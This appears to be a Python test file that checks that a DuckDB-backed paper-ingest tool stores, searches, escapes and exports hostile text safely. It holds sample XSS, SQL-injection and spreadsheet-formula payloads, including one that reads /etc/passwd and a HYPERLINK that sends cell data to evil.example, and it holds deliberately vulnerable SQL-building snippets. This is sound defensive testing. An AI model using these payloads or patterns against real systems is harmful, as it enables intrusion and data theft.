"""Injection: titles and abstracts holding HTML/JS, SQL fragments, spreadsheet formulas and control characters.

They go through a real reader and the real pipeline into a real DuckDB file, and must come back as the
same plain text: stored byte-exact, found by search as literal text, shown escaped, exported without a
formula that a spreadsheet would run. A static check makes sure no module builds SQL text from anything
but fixed identifiers (user values reach DuckDB only as bound parameters).

Documented reader behaviour this relies on (ingest/readers/clean.py, ingest/readers/__init__.py):
- known HTML/JATS tags (<p>, <i>, <img ...>, <sub> ...) are markup and stripped, entities unescaped;
  any other '<...>' (<script>, '<4B parameters') is text and kept;
- whitespace runs (tab, newline, CR...) collapse to one space and the ends are trimmed;
- other control characters (NUL, BEL, ESC, DEL, U+202E...) are kept verbatim when they arrive escaped
  (JSON '\\u0000'); a raw file whose first 4 KB hold a NUL or more than 1% control characters is refused
  as binary before any parser runs.
"""
from __future__ import annotations

import ast
import csv
import html
import io
import json
import re
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from ingest import export, pipeline, queries, store
from ingest.queries import Filters
from ingest.readers import read_bytes

ROOT = Path(__file__).resolve().parent.parent

INJECTIONS = [
    "<script>alert(1)</script>",
    "'); DROP TABLE papers; --",
    "=cmd|' /C calc'!A0",
    "+SUM(1,1)",
    "-2+3",
    "@SUM(A1:A2)",
    "\" OR \"1\"=\"1\" --",
    "%' OR 'x'='x' /*",
    "Robert'); DELETE FROM claims WHERE ('1'='1",
    "$q0 ? :name @1",
    "\\'; SELECT * FROM read_csv('/etc/passwd'); --",
    "[link](javascript:alert(1)) **bold** _x_ `code`",
    "{{7*7}} ${7*7} %(x)s {0}",
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
    "é 𝔘nicode 深度学习 ‮txet desrever",
]
CONTROLS = "".join(chr(c) for c in [*range(0x00, 0x09), *range(0x0E, 0x1C), 0x7F]) + "\u202e"
CONTROL_TITLE = f"Control{CONTROLS}characters"
DANGEROUS_START = ("=", "+", "-", "@", "\t", "\r")


def records() -> list[dict]:
    """Each hostile string as a whole title, inside an abstract, and at the start of an abstract."""
    rows = []
    for i, s in enumerate(INJECTIONS):
        rows.append({"id": f"2501.{i:05d}", "title": s, "summary": f"Abstract with {s} inside; the method is 2x faster."})
        rows.append({"id": f"2502.{i:05d}", "title": f"Paper {i} {s}", "summary": f"{s} starts this abstract, 30% less memory."})
    rows.append({"id": "2503.00000", "title": CONTROL_TITLE, "summary": f"An abstract{CONTROLS} with control characters, 2x faster."})
    return rows


@pytest.fixture(scope="module")
def db(tmp_path_factory):
    """A database holding the hostile records, uploaded as an arXiv JSON-lines file through the pipeline."""
    folder = tmp_path_factory.mktemp("inj")
    dump = folder / "hostile.jsonl"
    dump.write_text("\n".join(json.dumps(r) for r in records()) + "\n", encoding="utf-8")
    path = folder / "atlas.duckdb"
    con = store.connect(path)
    summary = pipeline.add_files(con, [dump])[0]
    assert (summary.n_new, summary.n_duplicates, summary.skipped) == (len(records()), 0, [])
    yield con
    con.close()


def stored(con) -> dict[str, tuple[str, str]]:
    return {a: (t, ab) for a, t, ab in con.execute("SELECT arxiv_id, title, abstract FROM papers").fetchall()}


# ---------------------------------------------------------------- stored as plain text

def test_every_title_and_abstract_is_stored_byte_exact(db):
    rows = stored(db)
    for r in records():
        assert rows[r["id"]] == (r["title"], r["summary"]), r["id"]


def test_the_tables_survive_the_sql_fragments(db):
    tables = {r[0] for r in db.execute("SELECT table_name FROM information_schema.tables").fetchall()}
    assert {"papers", "claims", "extractions", "ingests", "paper_sources"} <= tables
    assert db.execute("SELECT count(*) FROM papers").fetchone()[0] == len(records())
    assert db.execute("SELECT count(*) FROM claims").fetchone()[0] > 0


def test_csv_and_ris_readers_keep_the_strings_exactly():
    printable = [s for s in INJECTIONS]
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow(["Title", "Abstract"])
    for s in printable:
        writer.writerow([s, f"Abstract with {s} inside; the method is 2x faster."])
    result = read_bytes(out.getvalue().encode(), "hostile.csv")
    assert [r.title for r in result.records] == printable
    ris = "".join(f"TY  - JOUR\nTI  - {s}\nAB  - {s} starts this abstract, 30% less memory.\nER  - \n" for s in printable)
    result = read_bytes(ris.encode(), "hostile.ris")
    assert [(r.title, r.abstract) for r in result.records] == [(s, f"{s} starts this abstract, 30% less memory.") for s in printable]


def test_known_markup_tags_are_stripped_but_script_is_kept_as_text():
    data = json.dumps({"title": "Cats <img src=x onerror=alert(1)> and <i>dogs</i>",
                       "summary": "An abstract long enough &amp; <script>alert(1)</script> kept."}).encode()
    record = read_bytes(data, "x.json").records[0]
    assert record.title == "Cats and dogs"
    assert record.abstract == "An abstract long enough & <script>alert(1)</script> kept."


def test_control_characters_are_kept_when_escaped_and_refused_raw():
    record = read_bytes(json.dumps({"title": CONTROL_TITLE, "summary": "Long enough abstract text here."}).encode(), "x.json").records[0]
    assert record.title == CONTROL_TITLE
    whitespace = read_bytes(json.dumps({"title": " Tab\there\nand\r\nnewline ", "summary": "Long enough abstract text here."}).encode(), "x.json")
    assert whitespace.records[0].title == "Tab here and newline"
    from ingest.errors import ParseError

    with pytest.raises(ParseError, match="looks like a binary file"):
        read_bytes(("Title,Abstract\n" + CONTROL_TITLE + ",Long enough abstract text here.\n").encode(), "raw.csv")


# ---------------------------------------------------------------- search and filters: literal text, bound

def expected_ids(con, q: str) -> set[str]:
    terms = queries.search_terms(q)
    return {
        pid
        for pid, title, abstract in con.execute("SELECT id, title, abstract FROM papers").fetchall()
        if all(t.lower() in title.lower() or t.lower() in abstract.lower() for t in terms)
    }


@pytest.mark.parametrize("q", INJECTIONS + [CONTROL_TITLE, CONTROLS, "%", "_", ".*", "(?i)", "\\", "'", '"', ";"])
def test_search_treats_hostile_text_literally(db, q):
    expected = expected_ids(db, q)
    table = queries.papers_table(db, Filters(q=q))
    assert set(table["id"]) == expected
    assert queries.count_papers(db, Filters(q=q)) == len(expected)
    if q in INJECTIONS:
        assert expected, "a hostile string must find the paper that holds it"
    assert db.execute("SELECT count(*) FROM papers").fetchone()[0] == len(records())


@pytest.mark.parametrize("value", INJECTIONS)
def test_other_filters_and_sort_names_are_bound_or_fixed(db, value):
    for f in (Filters(domains=(value,)), Filters(categories=(value,)), Filters(q=value, domains=("nlp", value))):
        assert queries.count_papers(db, f) == 0
        queries.export_papers(db, f)
        queries.export_claims(db, f)
        queries.domain_summary(db, f)
    assert len(queries.papers_table(db, Filters(), sort=value)) == len(records())  # unknown sort: the default
    with pytest.raises(ValueError):
        queries.tradeoff_points(db, Filters(), axis=value)
    assert queries.paper_detail(db, value) is None
    assert queries.claims_for(db, value).empty


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow, HealthCheck.function_scoped_fixture])
@given(q=st.text(alphabet=st.characters(min_codepoint=1, max_codepoint=0x7F), max_size=40))
def test_search_with_random_ascii_matches_substring_semantics(db, q):
    assert set(queries.papers_table(db, Filters(q=q))["id"]) == expected_ids(db, q)


@settings(max_examples=100, deadline=None, suppress_health_check=[HealthCheck.too_slow, HealthCheck.function_scoped_fixture])
@given(q=st.text(max_size=40))
def test_search_with_random_unicode_never_fails(db, q):
    assert queries.count_papers(db, Filters(q=q)) >= 0


# ---------------------------------------------------------------- exports: no formula runs

def test_csv_export_neutralises_every_formula_cell(db):
    papers = queries.export_papers(db)
    for data in (export.to_csv(papers), export.claims_bytes("csv", queries.export_claims(db))):
        assert data.startswith(b"\xef\xbb\xbf")
        rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
        for row in rows[1:]:
            for cell in row:
                if cell.startswith(DANGEROUS_START):
                    float(cell)  # only a number (a -1.5 quality drop) may start with '-' or '+'
    rows = list(csv.DictReader(io.StringIO(export.to_csv(papers).decode("utf-8-sig"))))
    by_title = {r["title"] for r in rows}
    for s in INJECTIONS:
        assert ("'" + s if s.startswith(DANGEROUS_START) else s) in by_title
    abstracts = {r["abstract"] for r in rows}
    assert "'=cmd|' /C calc'!A0 starts this abstract, 30% less memory." in abstracts
    assert "'-2+3 starts this abstract, 30% less memory." in abstracts


def test_excel_export_has_no_formula_cell_and_survives_control_characters(db):
    papers, claims = queries.export_papers(db), queries.export_claims(db)
    book = openpyxl.load_workbook(io.BytesIO(export.to_xlsx(papers, claims)))
    assert book.sheetnames == ["papers", "claims"]
    values = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert not cell.value.startswith(DANGEROUS_START), cell.value
                    values.append(cell.value)
    assert "'=cmd|' /C calc'!A0" in values and "'@SUM(A1:A2)" in values and "'+SUM(1,1)" in values
    assert "<script>alert(1)</script>" in values
    # XML cannot hold C0 controls: they are dropped (before neutralising), the rest of the title stays.
    assert CONTROL_TITLE.translate({c: None for c in [*range(0x00, 0x09), *range(0x0E, 0x1C)]}) in values


def test_json_parquet_and_bibtex_exports_keep_or_escape_the_text(db):
    papers = queries.export_papers(db)
    titles = {r["title"] for r in json.loads(export.to_json(papers))}
    assert set(INJECTIONS) <= titles and CONTROL_TITLE in titles  # JSON is data, not a sheet: verbatim
    parquet = pd.read_parquet(io.BytesIO(export.to_parquet(papers)))
    assert set(INJECTIONS) <= set(parquet["title"])
    bib = export.to_bibtex(papers).decode()
    from ingest.readers import bibtex

    parsed, skipped = bibtex.parse(bib)
    assert not skipped and len(parsed) == len(records())  # no title closed its entry early


# ---------------------------------------------------------------- shown as plain text

def test_the_abstract_panel_escapes_everything_but_its_own_marks(db):
    from ui.highlight import highlight_html
    from ui.plaintext import plain

    for pid, abstract in db.execute("SELECT id, abstract FROM papers").fetchall():
        claims = queries.claims_for(db, pid).to_dict("records")
        out = highlight_html(abstract, claims)
        assert "<script" not in out and "<img" not in out
        tags = set(re.findall(r"</?([a-zA-Z]+)", out))
        assert tags <= {"div", "mark", "sub"}
        text = re.sub(r"<sub[^>]*>.*?</sub>", "", out)
        assert html.unescape(re.sub(r"<[^>]+>", "", text)) == plain(abstract)


def test_chart_hover_text_and_markdown_are_escaped():
    from ui.charts import escaped
    from ui.layout import md_escape

    hover = escaped(pd.Series(INJECTIONS), 200)
    assert not any("<script" in h or "<img" in h for h in hover)
    assert [html.unescape(h) for h in hover] == INJECTIONS
    for s in INJECTIONS:
        assert not re.search(r"(?<!\\)[<>\[\]`*_]", md_escape(s)), md_escape(s)


# ---------------------------------------------------------------- no SQL built from values

SQL_WORDS = re.compile(
    r"\b(SELECT|INSERT|UPDATE|DELETE|WHERE|FROM|CREATE|DROP|ALTER|LIKE|ILIKE|ORDER BY|LIMIT|VALUES|JOIN|"
    r"PRAGMA|ATTACH|COPY|INTO|SET|AND|OR|IN)\b"
)
SQL_CALLS = {"execute", "executemany", "sql", "query", "from_query"}
# Interpolations allowed inside SQL text, per file, and why each is a fixed identifier or fragment.
ALLOWED = {
    "ingest/queries.py": {
        "_BASE": "module constant: the base CTE",
        "_BASE_WITH_ABSTRACT": "module constant: the base CTE plus the abstract",
        "where": "where_clause(): fixed fragments, every value a $named parameter",
        "' AND '.join(parts)": "where_clause(): the fixed fragments",
        "order": "SORTS.get(...): one of the fixed ORDER BY clauses",
        "', '.join(PAPER_TABLE_COLUMNS)": "fixed column list",
        "', '.join(EXPORT_COLUMNS)": "fixed column list",
        "column": "AXES[axis] (axis checked) or the fixed column tuple of where_clause",
        "extra": "fixed fragment",
        "sql": "composed in the same function from the fragments above",
        "EMBEDDING_DIM": "int constant",
        "name": "parameter name from a fixed tuple ('sp', 'qc')",
        "i": "loop index: parameter name $q0..$q9",
    },
    "ingest/store.py": {
        "table": "literal table names in remove_ingest",
        "column": "literal column names in remove_ingest",
        "EMBEDDING_DIM": "int constant",
        "where": "existing_identities(): a clause its caller wrote (build_plan._stored_met), never values",
    },
    "ingest/schema.py": {
        "EMBEDDING_DIM": "int constant",
        "baseline": "one of two fixed fragments: c.baseline or NULL::VARCHAR",
        "field": "the five fixed context field names of 008_claim_context",
        "suffix": "fixed column suffixes of 008_claim_context",
        "kind": "fixed SQL types of 008_claim_context",
    },
    "ingest/frames.py": {
        "table": "literal table names passed by the callers of insert_frame",
        "columns": "quoted DataFrame column names from the callers' fixed column lists",
        "select": "insert_frame(select=...): the callers' fixed SELECT lists",
        "view": "registered(): the view name it made itself (_frame_<counter>)",
    },
    "ingest/facts.py": {
        "frame": "registered(): the view name it made itself",
        "FACTS_SELECT": "module constant: the table's definition",
        "query": "refresh_papers(): a SELECT the store's own code passes as touched=..., or a fixed one",
        "select": "FACTS_SELECT with fixed filter fragments",
        "facts_select(con)": "FACTS_SELECT over one of two fixed corrections relations",
        "POINT_FACTS_SELECT": "module constant: point_facts' definition",
        "label_sql('metric', 'g')": "fixed column expression (facets.label_sql over fixed field names)",
        "label_sql('metric', 'q')": "fixed column expression",
        "label_sql('dataset', 'q')": "fixed column expression",
        "label_sql('baseline', 'g')": "fixed column expression",
        "label_sql('baseline', 'q')": "fixed column expression",
        "label_sql('hardware', 'g')": "fixed column expression",
        "label_sql('hardware', 'q')": "fixed column expression",
        "label_sql('model', 'g')": "fixed column expression",
        "label_sql('model', 'q')": "fixed column expression",
        "table": "one of the two literal table names paper_facts, point_facts",
        "key": "one of the two literal key columns id, paper_id",
        "_only_touched(definition)": "a fixed definition with fixed filter fragments",
        "definition": "FACTS_SELECT / POINT_FACTS_SELECT, module constants",
    },
    "ingest/facets.py": {
        "_BASE": "module constant (queries._BASE)",
        "where": "queries.where_clause: fixed fragments, values bound",
        "facet.column": "fixed column name from the FACETS registry",
        "facet.field": "fixed field name from the FACETS registry",
        "' UNION ALL '.join(branches)": "the five branches built above from fixed fragments",
        "others": "where_parts: fixed fragments, values bound",
        "' AND '.join(parts)": "where_parts' fixed fragments",
        "', '.join((facet.column for facet in FACETS))": "fixed column names from the FACETS registry",
    },
    "ingest/context_queries.py": {
        "_BASE": "module constant (queries._BASE)",
        "where": "queries.where_clause: fixed fragments, values bound",
    },
    "ingest/tradeoff_queries.py": {
        "_BASE": "module constant (queries._BASE)",
        "where": "queries.where_clause: fixed fragments, values bound",
        "_keys(where)": "a fixed CTE around where_clause's fixed fragments",
        "papers": "one of two fixed fragments: a join on where_clause's papers, or nothing",
        "_ON_CHOICE": "module constant: the like-with-like condition, metric and dataset bound",
        "_ROW_COLUMNS": "module constant: the fixed column list",
    },
    "ingest/corrections.py": {
        "_CORRECTION_COLUMNS": "module constant: the fixed column list",
        "where": "one of two fixed fragments, the paper id a $named parameter",
        "table": "literal table names in _rewrite",
    },
    "ingest/gold_export.py": {
        "mark": "one of two fixed fragments: checked, or corrected OR checked",
    },
    "ingest/build_load.py": {
        "EMBEDDING_DIM": "int constant",
        "JOIN_ANCHORS": "int constant",
        "CLAIMS_JSON": "module constant: the staged claims' JSON type",
        "', '.join(CONTEXT_COLUMNS)": "fixed column list",
        "', '.join(('c.' + k for k in CONTEXT_COLUMNS))": "fixed column list",
        "columns": "_from_new(): the fixed column lists of _insert_new_papers / _load_points",
        "where": "_from_new(): the fixed WHERE / ORDER BY text of _insert_new_papers",
        "table": "the four fixed temp table names dropped after the load",
        "_from_new('w.title, w.abstract, w.authors, w.date, w.year, w.arxiv_id, w.doi, w.url, w.categories, "
        "w.title_key, w.text_key, $at', 'ORDER BY n.file_index, n.position')": "fixed text, values as $parameters",
        "_from_new('w.extractor_version, w.method, w.domains, w.tradeoffs, w.quality_note, w.n_claims, "
        "w.best_speedup, w.memory_reduction, w.compute_reduction, w.size_reduction, w.token_reduction, "
        "w.energy_reduction, w.cost_reduction, w.quality_change, w.quality_flag')": "fixed text",
        "_from_new(f\"from_json(w.claims, '{CLAIMS_JSON}') AS cl\", 'WHERE w.n_claims > 0')": "fixed text",
        "store.sql_literal(limit)": "SET takes no parameters: the memory-limit setting as a quoted literal, quotes doubled",
        "store.sql_literal(path + '.tmp')": "SET takes no parameters: the database's own path + .tmp, quotes doubled",
        "store.sql_literal(before)": "SET takes no parameters: the setting read back from DuckDB, quotes doubled",
    },
    "ingest/build_known.py": {
        "keys_sql('arxiv_id', 'doi', 'title_key')": "build_plan.keys_sql over fixed column names",
        "ascii_sql('arxiv_id', 'doi')": "build_plan's fixed ASCII test over fixed column names",
        "python_keys": "registered(): the view name it made itself",
        "part": "registered(): the view name it made itself",
        "stored_column": "one of the two literal column names key, text_key",
        "store.sql_literal(str(keys))": "COPY takes no parameters: the staging folder's own file, quotes doubled",
        "store.sql_literal(str(text_file))": "COPY takes no parameters: the staging folder's own file, quotes doubled",
    },
    "ingest/build_plan.py": {
        "keys_sql('arxiv_id', 'doi', 'title_key')": "store.keys_of in SQL over fixed column names",
        "ascii_sql('arxiv_id', 'doi')": "a fixed ASCII test over fixed column names",
        "tangled": "registered(): the view name it made itself",
    },
}


def _source_files() -> list[Path]:
    files = [ROOT / "app.py"] if (ROOT / "app.py").exists() else []
    for folder in ("ingest", "ui", "views", "pages"):
        if (ROOT / folder).is_dir():
            files += sorted((ROOT / folder).rglob("*.py"))
    return files


def _interpolations(node: ast.AST) -> list[str] | None:
    """The expressions spliced into a string built with an f-string, + / %, or .format(); None if not one."""
    if isinstance(node, ast.JoinedStr):
        return [ast.unparse(v.value) for v in node.values if isinstance(v, ast.FormattedValue)]
    if isinstance(node, ast.BinOp) and isinstance(node.op, (ast.Add, ast.Mod)):
        if not _has_string(node):
            return None
        out: list[str] = []
        for side in (node.left, node.right):
            inner = _interpolations(side)
            if inner is not None:
                out += inner
            elif not (isinstance(side, ast.Constant) and isinstance(side.value, str)):
                out.append(ast.unparse(side))
        return out
    if isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute) and node.func.attr == "format":
        if isinstance(node.func.value, ast.Constant) and isinstance(node.func.value.value, str):
            return [ast.unparse(a) for a in node.args] + [ast.unparse(k.value) for k in node.keywords]
    return None


def _has_string(node: ast.AST) -> bool:
    return any(isinstance(n, (ast.Constant, ast.JoinedStr)) and (isinstance(getattr(n, "value", None), str) or isinstance(n, ast.JoinedStr)) for n in ast.walk(node))


def _constant_text(node: ast.AST) -> str:
    return " ".join(n.value for n in ast.walk(node) if isinstance(n, ast.Constant) and isinstance(n.value, str))


def sql_building_violations(path: Path, source: str) -> list[str]:
    """Strings that look like SQL (or reach an execute call) and splice in anything not allowed."""
    rel = path.relative_to(ROOT).as_posix() if path.is_absolute() else str(path)
    allowed = ALLOWED.get(rel, {})
    tree = ast.parse(source)
    problems: list[str] = []
    seen: set[int] = set()

    def check(node: ast.AST, why: str) -> None:
        if id(node) in seen:
            return
        seen.add(id(node))
        spliced = _interpolations(node)
        if spliced is None:
            return
        bad = [e for e in spliced if e not in allowed]
        if bad:
            problems.append(f"{rel}:{node.lineno}: {why} splices in {bad}")

    # 1. every string built from values whose fixed text reads like SQL
    for node in ast.walk(tree):
        if isinstance(node, (ast.JoinedStr, ast.BinOp, ast.Call)) and _interpolations(node) is not None:
            if SQL_WORDS.search(_constant_text(node)) and re.search(r"\b(SELECT|INSERT|UPDATE|DELETE|WHERE|FROM|CREATE|DROP|LIKE|ORDER BY)\b", _constant_text(node)):
                check(node, "SQL text")
    # 2. whatever reaches con.execute / .sql / .query / _frame, also through a local variable
    assignments: dict[str, list[ast.AST]] = {}
    for node in ast.walk(tree):
        if isinstance(node, ast.Assign):
            for target in node.targets:
                if isinstance(target, ast.Name):
                    assignments.setdefault(target.id, []).append(node.value)
        elif isinstance(node, (ast.AugAssign, ast.AnnAssign)) and isinstance(node.target, ast.Name) and node.value is not None:
            assignments.setdefault(node.target.id, []).append(node.value)
    for node in ast.walk(tree):
        if not isinstance(node, ast.Call):
            continue
        arg = None
        if isinstance(node.func, ast.Attribute) and node.func.attr in SQL_CALLS and node.args:
            arg = node.args[0]
        elif isinstance(node.func, ast.Name) and node.func.id == "_frame" and len(node.args) > 1:
            arg = node.args[1]
        if arg is None:
            continue
        values = assignments.get(arg.id, []) if isinstance(arg, ast.Name) else [arg]
        for value in values:
            check(value, f"the SQL of .{getattr(node.func, 'attr', getattr(node.func, 'id', '?'))}()")
    return problems


def test_no_module_builds_sql_from_values():
    files = _source_files()
    assert any(p.name == "queries.py" for p in files) and any(p.name == "store.py" for p in files)
    problems = [p for path in files for p in sql_building_violations(path, path.read_text(encoding="utf-8"))]
    assert problems == []


@pytest.mark.parametrize(
    "snippet",
    [
        "def f(con, text):\n    return con.execute(f\"SELECT * FROM papers WHERE title LIKE '%{text}%'\")\n",
        "def f(con, text):\n    sql = \"SELECT * FROM papers WHERE title = '\" + text + \"'\"\n    return con.execute(sql)\n",
        "def f(con, text):\n    return con.sql(\"DELETE FROM papers WHERE id = '{}'\".format(text))\n",
        "def f(con, text):\n    return con.execute(\"SELECT * FROM papers WHERE id = '%s'\" % text)\n",
        "def f(con, q):\n    where = f\"WHERE abstract ILIKE '{q}'\"\n    return _frame(con, f\"{_BASE} SELECT * FROM base {where}\")\n",
    ],
    ids=["f-string", "concatenation", "format", "percent", "via-variable"],
)
def test_the_static_check_catches_sql_built_from_user_text(snippet):
    assert sql_building_violations(ROOT / "ingest/queries.py", snippet)
